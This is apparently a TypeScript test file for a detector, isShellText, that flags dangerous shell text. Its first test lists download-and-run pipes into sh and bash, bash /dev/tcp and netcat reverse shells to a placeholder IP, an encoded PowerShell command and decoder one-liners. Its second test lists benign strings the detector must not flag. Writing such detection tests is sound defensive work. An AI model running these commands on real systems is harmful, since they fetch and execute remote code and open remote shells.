import assert from "node:assert/strict";
import { test } from "node:test";
import { isShellText } from "./shell_text.ts";

test("downloads into a shell, reverse shells and decoders are found", () => {
  for (
    const text of [
      "curl -s https://example.com/x.sh | sh",
      "wget -qO- example.com/i && sudo bash",
      "true; curl example.com/a -o a; sh a",
      "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
      "nc 203.0.113.5 4444 -e /bin/sh",
      "powershell -nop -enc SQBFAFgA",
      "certutil -f -decode a b",
      "echo aQ== | base64 -d",
    ]
  ) {
    assert.ok(isShellText(text), text);
  }
});

test("other texts are none, and what stands behind a quote belongs to another command", () => {
  for (
    const text of [
      "curl https://example.com/model.bin",
      "fetch with curl; then read the README",
      "'curl' | \"tee\"",
      "nc 'host' -e",
      "see the shell's manual | less",
    ]
  ) {
    assert.ok(!isShellText(text), text);
  }
});
